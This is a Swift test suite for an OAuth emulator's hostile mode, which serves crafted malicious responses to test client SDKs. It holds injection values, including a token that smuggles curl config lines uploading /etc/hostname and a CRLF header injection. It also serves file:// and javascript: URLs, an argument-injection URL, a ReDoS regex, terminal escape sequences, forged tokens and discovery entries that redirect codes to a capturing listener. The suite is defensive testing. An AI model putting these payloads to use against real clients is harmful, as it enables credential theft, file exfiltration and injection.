// Hostile mode: for every kind, the emulator serves what docs/emulator.md says it serves, and
// the recording listener counts what reaches it. No client is judged here (that is for the
// end-to-end tests); only what the malicious tenant sends.
import CurlTransport
import Foundation
import OAuthCore
import StrivacityCore
import Testing

@testable import Emulator

@Suite struct HostileModeTests {
  // MARK: helpers

  /// A fresh emulator with `kinds` turned on through the control endpoint.
  func hostileEmulator(_ kinds: [String], journey: String = "password") throws -> Emulator {
    let emulator = try Emulator(journey: try loadJourney(journey))
    if !kinds.isEmpty {
      let response = try control(emulator, "POST", ["kinds": .array(kinds.map(JSONValue.string))])
      #expect(response.status == 200, "\(response.bodyText)")
    }
    return emulator
  }

  @discardableResult
  func control(_ emulator: Emulator, _ method: String, _ body: JSONValue? = nil) throws -> HTTPResponse {
    try CurlHTTPClient().send(
      HTTPRequest(method: method, url: emulator.issuer + "_emulator/hostile", body: body?.serialized()))
  }

  func stats(_ emulator: Emulator) throws -> JSONValue {
    try #require(JSONValue.parse(try CurlHTTPClient().send(HTTPRequest(url: emulator.issuer + "_emulator/stats")).body))
  }

  /// The password journey up to the code, with the driver that holds the PKCE verifier.
  func code(_ emulator: Emulator, sdk: String = "web") throws -> (Driver, String) {
    let driver = try Driver.started(emulator, sdk: sdk)
    try driver.expectScreen("identifier", ["identifier": "demo@example.com"], "password")
    return (driver, try driver.finish("password", ["password": "Demo-pass-1"]))
  }

  /// A token request without a strict client's checks: the answer as served.
  func exchange(_ driver: Driver, _ code: String) throws -> JSONValue {
    let response = try driver.post(
      driver.issuer + "oauth2/token",
      form: [
        ("grant_type", "authorization_code"), ("code", code), ("redirect_uri", driver.redirectURI),
        ("client_id", driver.clientID), ("code_verifier", driver.pkce.verifier),
      ])
    #expect(response.status == 200, "\(response.bodyText)")
    return try driver.parse(response)
  }

  func refresh(_ driver: Driver, _ token: String) throws -> JSONValue {
    let response = try driver.post(
      driver.issuer + "oauth2/token",
      form: [
        ("grant_type", "refresh_token"), ("refresh_token", token), ("client_id", driver.clientID),
      ])
    #expect(response.status == 200, "\(response.bodyText)")
    return try driver.parse(response)
  }

  func jwks(_ driver: Driver) throws -> JWKS {
    try JWKS(json: try driver.parse(try driver.get(driver.issuer + ".well-known/jwks.json")))
  }

  func discovery(_ emulator: Emulator) throws -> HTTPResponse {
    try CurlHTTPClient().send(HTTPRequest(url: emulator.issuer + ".well-known/openid-configuration"))
  }

  func introspect(_ driver: Driver, _ token: String) throws -> JSONValue {
    try driver.parse(try driver.post(driver.issuer + "oauth2/introspect", form: [("token", token)]))
  }

  func widgets(_ screen: JSONValue) -> [JSONValue] {
    screen["forms"]?.array?.flatMap { $0["widgets"]?.array ?? [] } ?? []
  }

  // MARK: control

  @Test func turnedOnAndOffThroughTheControlEndpoint() throws {
    let emulator = try hostileEmulator([])
    defer { emulator.stop() }
    let off = try #require(JSONValue.parse(try control(emulator, "GET").body))
    #expect(off == ["kinds": [], "listener": .null])

    let on = try control(emulator, "POST", ["kinds": ["texts", "regex"]])
    #expect(on.status == 200)
    let body = try #require(JSONValue.parse(on.body))
    #expect(body["kinds"] == ["texts", "regex"])
    let listener = try #require(body["listener"]?.string)
    #expect(listener.hasPrefix("http://127.0.0.1:") && listener != emulator.issuer)
    #expect(emulator.hostileKinds == [.texts, .regex])

    // POST replaces the set; a comma-separated string is accepted too.
    #expect(try control(emulator, "POST", ["kinds": "token-type,discovery-port"]).status == 200)
    #expect(emulator.hostileKinds == [.tokenType, .discoveryPort])

    let unknown = try control(emulator, "POST", ["kinds": ["texts", "no-such-kind"]])
    #expect(unknown.status == 400)
    #expect(unknown.bodyText.contains("no-such-kind") && unknown.bodyText.contains("hosted-url-scheme"))
    #expect(try control(emulator, "POST", ["nothing": true]).status == 400)
    #expect(emulator.hostileKinds == [.tokenType, .discoveryPort], "a refused request changes nothing")

    #expect(try control(emulator, "DELETE").status == 204)
    #expect(emulator.hostileKinds.isEmpty)
    #expect(
      JSONValue.parse(try discovery(emulator).body)?["token_endpoint"]?.string == emulator.issuer + "oauth2/token")
  }

  @Test func kindNamesAreTheContract() throws {
    #expect(
      HostileKind.allCases.map(\.rawValue) == [
        "token-newline", "token-control", "token-type", "refresh-token-newline", "id-token-numbers",
        "expires-in-hostile",
        "expires-in-string", "refresh-id-token-forged", "texts", "hosted-url", "hosted-url-file", "hosted-url-option",
        "hosted-url-foreign", "hosted-url-scheme", "hosted-url-space", "regex", "deep-nesting",
        "deep-nesting-discovery",
        "discovery-port", "discovery-issuer", "discovery-authorization", "discovery-jwks", "finalize-elsewhere",
        "huge-numbers",
        "challenge-huge", "challenge-unterminated", "challenge-many", "challenge-control", "challenge-scope-foreign",
        "metadata-foreign-issuer", "echo", "echo-html", "echo-form",
      ])
    // What `--hostile` parses: commas, repeated options, blanks.
    #expect(try HostileKind.parse(["texts,regex", " token-type ", ""]).get() == [.texts, .regex, .tokenType])
    #expect(throws: HostileKindError.self) { try HostileKind.parse(["texts,bogus"]).get() }
  }

  @Test func setHostileStartsTheListenerUpFront() throws {
    let emulator = try Emulator(journey: try loadJourney("password"))
    defer { emulator.stop() }
    emulator.setHostile([.discoveryPort])
    let listener = emulator.hostileListenerURL()
    #expect(emulator.hostileListenerURL() == listener, "one listener per emulator")
    let response = try CurlHTTPClient().send(HTTPRequest(url: listener + "anything"))
    #expect(response.status == 200)
  }

  // MARK: tokens

  @Test func tokenNewlineRefreshNewlineTokenTypeAndNegativeExpiry() throws {
    let emulator = try hostileEmulator(["token-newline", "refresh-token-newline", "token-type", "expires-in-hostile"])
    defer { emulator.stop() }
    let (driver, code) = try code(emulator)
    let tokens = try exchange(driver, code)
    let access = try #require(tokens["access_token"]?.string)
    #expect(access.hasPrefix("sat_") && access.count > "sat_".count + Hostile.accessTokenNewline.count)
    #expect(access.hasSuffix("x\nurl = http://127.0.0.1:9/\nupload-file = /etc/hostname\nnext\n"))
    let refreshToken = try #require(tokens["refresh_token"]?.string)
    #expect(refreshToken.hasPrefix("srt_") && refreshToken.contains("\n"))
    #expect(tokens["token_type"]?.string == "Bearer\r\nX-Injected: 1")
    #expect(tokens["expires_in"] == -5)
    // The hostile tokens are the ones recorded: introspection and the refresh grant know them.
    #expect(try introspect(driver, access)["active"] == true)
    #expect(try introspect(driver, refreshToken)["active"] == true)
    let refreshed = try refresh(driver, refreshToken)
    #expect(refreshed["access_token"]?.string?.hasSuffix(Hostile.accessTokenNewline) == true, "the refresh grant too")
    #expect(refreshed["refresh_token"]?.string?.contains("\n") == true)
    #expect(refreshed["token_type"]?.string == Hostile.tokenType)
    #expect(refreshed["expires_in"] == -5)
    // A Bearer header cannot carry the newline token: userinfo refuses it, without crashing.
    let userinfo = try? driver.get(
      driver.issuer + "userinfo", headers: [HTTPHeader("Authorization", "Bearer " + access)])
    #expect(userinfo.map { $0.status != 200 } ?? true)
  }

  @Test func tokenControlAndExpiresInAsAString() throws {
    let emulator = try hostileEmulator(["token-control", "expires-in-string"])
    defer { emulator.stop() }
    let (driver, code) = try code(emulator)
    let tokens = try exchange(driver, code)
    let access = try #require(tokens["access_token"]?.string)
    #expect(access.hasPrefix("sat_") && access.hasSuffix("\u{1B}]52;c;aGk=\u{07} x"))
    #expect(access.contains("\u{1B}") && access.contains(" "))
    #expect(tokens["expires_in"] == "3600")
    #expect(tokens["token_type"] == "bearer", "only the kinds asked for")
    #expect(try introspect(driver, access)["active"] == true)
  }

  @Test func idTokenNumbersAreHugeAndValidlySigned() throws {
    let emulator = try hostileEmulator(["id-token-numbers"])
    defer { emulator.stop() }
    let (driver, code) = try code(emulator)
    let tokens = try exchange(driver, code)
    #expect(tokens["expires_in"] == .number(1e300))
    let jwt = try JWT(compact: try #require(tokens["id_token"]?.string))
    try jwt.verify(with: try jwks(driver))
    #expect(jwt.claims["exp"] == .number(1e300))
    #expect(jwt.claims["iat"] == .number(1e300))
    #expect(jwt.claims["nonce"]?.string == driver.nonce)
    let refreshed = try refresh(driver, try #require(tokens["refresh_token"]?.string))
    let again = try JWT(compact: try #require(refreshed["id_token"]?.string))
    try again.verify(with: try jwks(driver))
    #expect(again.claims["exp"] == .number(1e300) && again.claims["iat"] == .number(1e300))
    #expect(refreshed["expires_in"] == .number(1e300))
  }

  @Test func refreshIDTokenIsSignedWithAnotherKey() throws {
    let emulator = try hostileEmulator(["refresh-id-token-forged"])
    defer { emulator.stop() }
    let (driver, code) = try code(emulator)
    let tokens = try exchange(driver, code)
    let keys = try jwks(driver)
    let refreshed = try refresh(driver, try #require(tokens["refresh_token"]?.string))
    let forged = try JWT(compact: try #require(refreshed["id_token"]?.string))
    let genuine = try JWT(compact: try #require(tokens["id_token"]?.string))
    #expect(forged.keyID == genuine.keyID && forged.algorithm == "RS256", "looks like ours")
    try genuine.verify(with: keys)
    #expect(forged.claims["iss"]?.string == emulator.issuer)
    #expect(throws: (any Error).self) { try forged.verify(with: keys) }
  }

  // MARK: texts

  /// Every human-readable text of a screen carries the marker; statics the title-set too.
  func expectHostileTexts(_ screen: JSONValue, sourceLocation: SourceLocation = #_sourceLocation) {
    func options(_ list: [JSONValue]) {
      for option in list {
        #expect(
          option["label"]?.string?.hasSuffix(Hostile.marker) == true, "\(option.text)", sourceLocation: sourceLocation)
        #expect(option["value"]?.string?.contains("\u{1B}") != true, "values untouched", sourceLocation: sourceLocation)
        options(option["options"]?.array ?? [])
      }
    }
    for widget in widgets(screen) {
      let html = widget["render"]?["type"]?.string == "html"
      if widget["type"]?.string == "static" {
        let value = widget["value"]?.string ?? ""
        #expect(
          value.contains(Hostile.titleSet) && value.contains(Hostile.marker), "\(widget.text)",
          sourceLocation: sourceLocation)
        #expect(value.contains(Hostile.htmlEntities) == html, "\(widget.text)", sourceLocation: sourceLocation)
      }
      if let label = widget["label"]?.string {
        #expect(label.contains(Hostile.marker), "\(widget.text)", sourceLocation: sourceLocation)
        #expect(
          label.contains(Hostile.htmlEntities) == (widget["render"]?["labelType"]?.string == "html"),
          sourceLocation: sourceLocation)
      }
      if let placeholder = widget["placeholder"]?.string {
        #expect(placeholder.hasSuffix(Hostile.marker), sourceLocation: sourceLocation)
      }
      #expect(widget["id"]?.string?.contains("\u{1B}") == false, "ids untouched", sourceLocation: sourceLocation)
      options(widget["options"]?.array ?? [])
    }
  }

  @Test(arguments: modes) func textsEverywhereAndTheJourneyStillCompletes(_ sdk: String) throws {
    let emulator = try hostileEmulator(["texts"])
    defer { emulator.stop() }
    let driver = Driver(emulator, sdk: sdk)
    let first = try driver.start()
    #expect(first["screen"]?.string == "identification")
    expectHostileTexts(first)
    #expect(widgets(first).contains { $0["placeholder"]?.string == "you@example.com" + Hostile.marker })
    #expect(
      Hostile.marker.contains("\u{202E}") && Hostile.marker.unicodeScalars.contains { $0.value == 0x9B },
      "bidi override and C1 CSI")
    if !sdk.hasSuffix("-minimal") {
      #expect(first["branding"]?["copyright"]?.string?.hasSuffix(Hostile.marker) == true)
    }
    #expect(first["hostedUrl"]?.string?.hasPrefix(emulator.issuer + "provider/flow?") == true, "URLs untouched")

    // Per-widget and global messages.
    let (unknownStatus, unknown) = try driver.submit("identifier", ["identifier": "nobody@example.com"])
    #expect(unknownStatus == 400)
    #expect(
      unknown["messages"]?["identifier"]?["identifier"]?["text"]?.string == "No account found for nobody@example.com"
        + Hostile.marker)
    let password = try driver.expectScreen("identifier", ["identifier": "demo@example.com"], "password")
    expectHostileTexts(password)
    let (wrongStatus, wrong) = try driver.submit("password", ["password": "nope"])
    #expect(wrongStatus == 400)
    #expect(wrong["messages"]?["global"]?["text"]?.string == "Incorrect password" + Hostile.marker)
    #expect(wrong["messages"]?["global"]?["type"]?.string == "error", "types untouched")

    // Same answers as without the mode.
    let tokens = try driver.exchange(try driver.finish("password", ["password": "Demo-pass-1"]))
    let jwt = try JWT(compact: try #require(tokens["id_token"]?.string))
    #expect(jwt.claims["name"]?.string == "Demo User" + Hostile.marker)
    #expect(jwt.claims["email"]?.string == "demo@example.com" + Hostile.marker)
    let userinfo = try driver.parse(
      try driver.get(
        emulator.issuer + "userinfo",
        headers: [HTTPHeader("Authorization", "Bearer " + tokens["access_token"]!.string!)]))
    #expect(userinfo["name"]?.string == "Demo User" + Hostile.marker)
    #expect(userinfo["email"]?.string == "demo@example.com" + Hostile.marker)
  }

  @Test func textsInEveryWidgetTypeOptionsGroupsAndHTML() throws {
    let emulator = try hostileEmulator(["texts"], journey: "registration")
    defer { emulator.stop() }
    let driver = try Driver.started(emulator)
    let screen = try driver.expectScreen("additionalActions/registration", [:], "registration")
    expectHostileTexts(screen)
    let all = widgets(screen)
    let legal = try #require(all.first { $0["id"]?.string == "legal" })
    #expect(legal["value"]?.string?.hasSuffix(Hostile.titleSet + Hostile.marker + Hostile.htmlEntities) == true)
    let country = try #require(all.first { $0["id"]?.string == "country" })
    #expect(country["options"]?[0]?["type"]?.string == "group")
    #expect(country["options"]?[0]?["label"]?.string?.hasSuffix(Hostile.marker) == true, "group labels")
    #expect(
      country["options"]?[0]?["options"]?[0]?["label"]?.string?.hasSuffix(Hostile.marker) == true, "option labels")
    let submit = try #require(all.first { $0["type"]?.string == "submit" })
    #expect(submit["label"]?.string?.hasSuffix(Hostile.marker) == true)
    let close = try #require(all.first { $0["type"]?.string == "close" })
    #expect(close["label"]?.string?.hasSuffix(Hostile.marker) == true)
    // Server-side validation and checks still see the real journey.
    _ = try driver.exchange(try driver.finish("registration", JourneyTests.goodRegistration))
  }

  @Test func textsInOAuthErrors() throws {
    let emulator = try hostileEmulator(["texts"])
    defer { emulator.stop() }
    let driver = Driver(emulator)
    let token = try driver.post(
      emulator.issuer + "oauth2/token",
      form: [("grant_type", "refresh_token"), ("refresh_token", "srt_nope"), ("client_id", "strivacity-cli")])
    #expect(token.status == 400)
    #expect(try driver.parse(token)["error_description"]?.string == "unknown refresh token" + Hostile.marker)
    #expect(try driver.parse(token)["error"]?.string == "invalid_grant", "error codes untouched")
    let userinfo = try driver.get(emulator.issuer + "userinfo")
    #expect(userinfo.status == 401)
    #expect(try driver.parse(userinfo)["error_description"]?.string?.hasSuffix(Hostile.marker) == true)
    // Errors sent back through the redirect URI.
    let noPKCE = try driver.get(
      emulator.issuer + "oauth2/auth?"
        + FormEncoding.encode([
          ("client_id", "strivacity-cli"), ("redirect_uri", driver.redirectURI), ("response_type", "code"),
          ("sdk", "web"),
        ]))
    #expect(
      driver.query(noPKCE.bodyText)["error_description"] == "PKCE with code_challenge_method=S256 is required"
        + Hostile.marker)
    // Journey errors.
    let expired = try driver.postJSON("flow/api/v1/init", [:], bearer: "no-such-session")
    #expect(expired.status == 403)
    #expect(try driver.parse(expired)["error_description"]?.string?.hasSuffix(Hostile.marker) == true)
  }

  // MARK: hosted URLs

  static let hostedURLKinds: [(String, String?)] = [
    ("hosted-url", "https://evil.example/provider/flow?x=1"),
    ("hosted-url-file", "file:///etc/passwd"),
    ("hosted-url-option", "--new-window=https://evil.example/"),
    ("hosted-url-foreign", "https://evil.example/provider/flow?x=1"),
    ("hosted-url-scheme", "javascript:alert(1)"),
    ("hosted-url-space", nil),  // the real one + " --argument"
  ]

  @Test(arguments: hostedURLKinds) func hostedURLs(_ kind: String, _ expected: String?) throws {
    func check(_ url: String?, sourceLocation: SourceLocation = #_sourceLocation) {
      if let expected {
        #expect(url == expected, sourceLocation: sourceLocation)
      } else {
        #expect(url?.hasPrefix("http://127.0.0.1:") == true, sourceLocation: sourceLocation)
        #expect(
          url?.contains("/provider/flow?challenge=") == true && url?.hasSuffix(" --argument") == true,
          sourceLocation: sourceLocation)
      }
    }
    let emulator = try hostileEmulator([kind])
    defer { emulator.stop() }
    let driver = Driver(emulator)
    check(try driver.start()["hostedUrl"]?.string)
    let (status, bad) = try driver.submit("identifier", ["identifier": "nobody@example.com"])
    #expect(status == 400)
    check(bad["hostedUrl"]?.string)
    check(try driver.expectScreen("identifier", ["identifier": "demo@example.com"], "password")["hostedUrl"]?.string)
    let (finishStatus, finish) = try driver.submit("password", ["password": "Demo-pass-1"])
    #expect(finishStatus == 200)
    check(finish["hostedUrl"]?.string)
    #expect(finish["finalizeUrl"]?.string?.hasPrefix(emulator.issuer) == true)

    // A journey that needs the browser at once gets the hostile URL as its only answer.
    let hostedOnly = try hostileEmulator([kind], journey: "hosted-only")
    defer { hostedOnly.stop() }
    let first = try Driver(hostedOnly).start()
    #expect(first.object?.keys.sorted() == ["hostedUrl"])
    check(first["hostedUrl"]?.string)
    // So does the passkey screen, where a terminal must fall back.
    let passkey = try hostileEmulator([kind], journey: "passkey")
    defer { passkey.stop() }
    let passkeyDriver = Driver(passkey)
    check(try passkeyDriver.start()["hostedUrl"]?.string)
    let passkeyScreen = try passkeyDriver.submit("identifier", ["identifier": "demo@example.com"]).body
    #expect(widgets(passkeyScreen).contains { $0["type"]?.string == "passkeyLogin" })
    check(passkeyScreen["hostedUrl"]?.string)
  }

  // MARK: regex

  @Test func regexIsServedAndTheServerAnswersFast() throws {
    let emulator = try hostileEmulator(["regex"])
    defer { emulator.stop() }
    let driver = Driver(emulator)
    let first = try driver.start()
    let identifier = try #require(widgets(first).first { $0["id"]?.string == "identifier" })
    #expect(identifier["validator"]?["regex"]?.string == "(a|a)*b")
    #expect(identifier["validator"]?["maxLength"] == 254, "the other rules stay")
    #expect(widgets(first).first { $0["type"]?.string == "submit" }?["validator"] == nil, "only input widgets")

    let started = Date()
    // (Within the journey's own maxLength, 254, which the server checks first.)
    for text in [String(repeating: "a", count: 32), String(repeating: "a", count: 254), "demo@example.com"] {
      let (status, body) = try driver.submit("identifier", ["identifier": .string(text)])
      #expect(status == 400)
      #expect(body["messages"]?["identifier"]?["identifier"]?["text"]?.string == "Invalid format")
    }
    #expect(Date().timeIntervalSince(started) < 5, "no backtracking on the server")
    // What the pattern accepts passes validation and reaches the journey's own check.
    let (status, body) = try driver.submit("identifier", ["identifier": "aaab"])
    #expect(status == 400)
    #expect(body["messages"]?["identifier"]?["identifier"]?["text"]?.string == "No account found for aaab")
    // Every text-entry widget is served the pattern; the server applies it where WidgetValidation
    // applies regexes (input widgets), so a password still gets through.
    for type in ["password", "passcode", "phone", "date"] {
      let served = Hostile.hostileWidget(["type": .string(type), "id": "w", "validator": .null], [.regex])
      #expect(served["validator"]?["regex"]?.string == Hostile.regex, "\(type)")
    }
    #expect(try control(emulator, "DELETE").status == 204)
    try driver.expectScreen("identifier", ["identifier": "demo@example.com"], "password")
    #expect(try control(emulator, "POST", ["kinds": ["regex"]]).status == 200)
    _ = try driver.exchange(try driver.finish("password", ["password": "Demo-pass-1"]))
  }

  // MARK: nesting

  @Test func deepNestingInTheInitAnswer() throws {
    let emulator = try hostileEmulator(["deep-nesting"])
    defer { emulator.stop() }
    let driver = Driver(emulator)
    let (native, _) = try driver.nativeURL(driver.authorizationURL())
    driver.sessionID = try #require(driver.query(native)["session_id"])
    let response = try driver.postJSON("flow/api/v1/init", [:])
    #expect(response.status == 200)
    let text = response.bodyText
    let opening = "{\"x\":" + String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000) + ","
    #expect(text.hasPrefix(opening))
    #expect(text.contains("\"screen\":\"identification\""))
    #expect(text.hasSuffix("}"))
    // The rest is the ordinary screen: it parses once the nesting is taken out.
    let rest = try #require(JSONValue.parse("{" + text.dropFirst(opening.count)))
    #expect(rest["forms"]?[0]?["id"]?.string == "identifier")
    // Only init: forms and discovery answer as usual.
    #expect(try driver.submit("identifier", ["identifier": "demo@example.com"]).body["screen"]?.string == "password")
    #expect(JSONValue.parse(try discovery(emulator).body)?["issuer"]?.string == emulator.issuer)
  }

  @Test func deepNestingInDiscovery() throws {
    let emulator = try hostileEmulator(["deep-nesting-discovery"])
    defer { emulator.stop() }
    let text = try discovery(emulator).bodyText
    #expect(
      text.hasPrefix("{\"x\":" + String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000) + ","))
    #expect(text.contains("\"issuer\":\"\(emulator.issuer)\""))
    #expect(try Driver(emulator).start()["screen"]?.string == "identification", "the journey answers as usual")
  }

  // MARK: discovery and the recording listener

  @Test func discoveryPortPointsAtTheRecordingListener() throws {
    let emulator = try hostileEmulator(["discovery-port"])
    defer { emulator.stop() }
    let document = try #require(JSONValue.parse(try discovery(emulator).body))
    let listener = emulator.hostileListenerURL()
    func port(_ url: String) -> Int? { Int(url.split(separator: ":").last?.split(separator: "/").first ?? "") }
    #expect(port(emulator.issuer) != nil && port(listener) != nil && port(emulator.issuer) != port(listener))
    #expect(listener.hasPrefix("http://127.0.0.1:"), "same host")
    #expect(document["token_endpoint"]?.string == listener + "oauth2/token")
    #expect(document["revocation_endpoint"]?.string == listener + "oauth2/revoke")
    #expect(document["userinfo_endpoint"]?.string == listener + "userinfo")
    #expect(document["end_session_endpoint"]?.string == listener + "oauth2/sessions/logout")
    #expect(document["authorization_endpoint"]?.string == emulator.issuer + "oauth2/auth", "not under this kind")
    #expect(document["jwks_uri"]?.string == emulator.issuer + ".well-known/jwks.json")
    #expect(document["issuer"]?.string == emulator.issuer)
    #expect(try stats(emulator)["hostile_listener_requests"] == 0)

    // A client that sends its code there "succeeds", and the listener records it.
    let (driver, code) = try code(emulator)
    let stolen = try driver.post(
      document["token_endpoint"]!.string!, form: [("grant_type", "authorization_code"), ("code", code)],
      headers: [HTTPHeader("Authorization", "Basic c2VjcmV0")])
    #expect(stolen.status == 200)
    #expect(try driver.parse(stolen)["access_token"]?.string != nil)
    #expect(try driver.get(document["userinfo_endpoint"]!.string!).status == 200)
    let recorded = try stats(emulator)
    #expect(recorded["hostile_listener_requests"] == 2)
    #expect(
      recorded["hostile_listener_bodies"]?[0]?.string
        == FormEncoding.encode([("grant_type", "authorization_code"), ("code", code)]))
    #expect(recorded["hostile_listener_log"]?[0]?["path"]?.string == "/oauth2/token")
    #expect(recorded["hostile_listener_log"]?[0]?["authorization"]?.string == "Basic c2VjcmV0")
    #expect(recorded["hostile_listener_log"]?[1]?["method"]?.string == "GET")
    #expect(recorded["requests"]?["token"] == nil, "the tenant itself saw no token request")
    // The counters reset with the others.
    _ = try driver.post(emulator.issuer + "_emulator/stats/reset", form: [])
    #expect(try stats(emulator)["hostile_listener_requests"] == 0)
  }

  @Test func discoveryAuthorizationAndIssuer() throws {
    let emulator = try hostileEmulator(["discovery-authorization", "discovery-issuer"])
    defer { emulator.stop() }
    let document = try #require(JSONValue.parse(try discovery(emulator).body))
    let listener = emulator.hostileListenerURL()
    #expect(document["authorization_endpoint"]?.string == listener + "oauth2/auth")
    #expect(document["issuer"]?.string == "https://evil.example/")
    #expect(document["token_endpoint"]?.string == emulator.issuer + "oauth2/token", "not under these kinds")
    // ID tokens keep the real issuer: the document and the tokens disagree.
    let (driver, code) = try code(emulator)
    let jwt = try JWT(compact: try #require(exchange(driver, code)["id_token"]?.string))
    #expect(jwt.claims["iss"]?.string == emulator.issuer)
    let authorize = try driver.get(document["authorization_endpoint"]!.string! + "?client_id=strivacity-cli")
    #expect(authorize.status == 200)
    let recorded = try stats(emulator)
    #expect(recorded["hostile_listener_requests"] == 1)
    #expect(recorded["hostile_listener_log"]?[0]?["query"]?.string == "client_id=strivacity-cli")
  }

  @Test(arguments: ["web", "android"]) func finalizeElsewhere(_ sdk: String) throws {
    let emulator = try hostileEmulator(["finalize-elsewhere"])
    defer { emulator.stop() }
    let driver = try Driver.started(emulator, sdk: sdk)
    try driver.expectScreen("identifier", ["identifier": "demo@example.com"], "password")
    let (status, body) = try driver.submit("password", ["password": "Demo-pass-1"])
    #expect(status == 200)
    let finalize = try #require(body["finalizeUrl"]?.string)
    let listener = emulator.hostileListenerURL()
    #expect(finalize.hasPrefix(listener + "provider/oauth2/v1/finish?token="))
    #expect(body["hostedUrl"]?.string?.hasPrefix(emulator.issuer) == true)
    #expect(try stats(emulator)["hostile_listener_requests"] == 0)
    let followed = try driver.get(finalize, headers: [HTTPHeader("Authorization", "Bearer \(driver.sessionID)")])
    #expect(followed.status == 200)
    let recorded = try stats(emulator)
    #expect(recorded["hostile_listener_requests"] == 1)
    #expect(recorded["hostile_listener_log"]?[0]?["path"]?.string == "/provider/oauth2/v1/finish")
    #expect(recorded["hostile_listener_log"]?[0]?["authorization"]?.string == "Bearer \(driver.sessionID)")
    #expect(recorded["requests"]?["finalize"] == nil)
  }

  // MARK: numbers

  @Test func hugeNumbersInEveryValidator() throws {
    let emulator = try hostileEmulator(["huge-numbers"], journey: "registration")
    defer { emulator.stop() }
    let driver = try Driver.started(emulator)
    let screen = try driver.expectScreen("additionalActions/registration", [:], "registration")
    let inputs = widgets(screen).filter { !["static", "submit", "close"].contains($0["type"]?.string ?? "") }
    #expect(inputs.count == 12)
    for widget in inputs {
      let validator = widget["validator"]
      #expect(validator?["minLength"] == -1, "\(widget.text)")
      #expect(validator?["maxLength"] == .number(1e300))
      #expect(validator?["length"] == .number(1.5))
      #expect(validator?["minSelectable"] == .number(1e300))
      #expect(validator?["maxSelectable"] == -1)
      #expect(validator?["maxRepeatedCharacters"] == .number(1.5))
      #expect(validator?["maxNumericCharacterSequences"] == .number(1e300))
    }
    #expect(inputs.first { $0["id"]?.string == "email" }?["validator"]?["required"] == true, "other rules stay")
    // The answer is still JSON (no infinities), and the server keeps the journey's own rules.
    _ = try driver.exchange(try driver.finish("registration", JourneyTests.goodRegistration))
  }

  @Test func hugeNumbersReachPasskeyOptions() throws {
    let emulator = try hostileEmulator(["huge-numbers"], journey: "passkey")
    defer { emulator.stop() }
    let driver = try Driver.started(emulator)
    let screen = try driver.submit("identifier", ["identifier": "demo@example.com"]).body
    let passkey = try #require(widgets(screen).first { $0["type"]?.string == "passkeyLogin" })
    func numbers(_ value: JSONValue) -> [Double] {
      switch value {
      case .number(let n): return [n]
      case .array(let items): return items.flatMap(numbers)
      case .object(let object): return object.values.flatMap(numbers)
      default: return []
      }
    }
    let found = numbers(passkey["assertionOptions"] ?? .null)
    #expect(found == [1e300], "the timeout")
  }
}
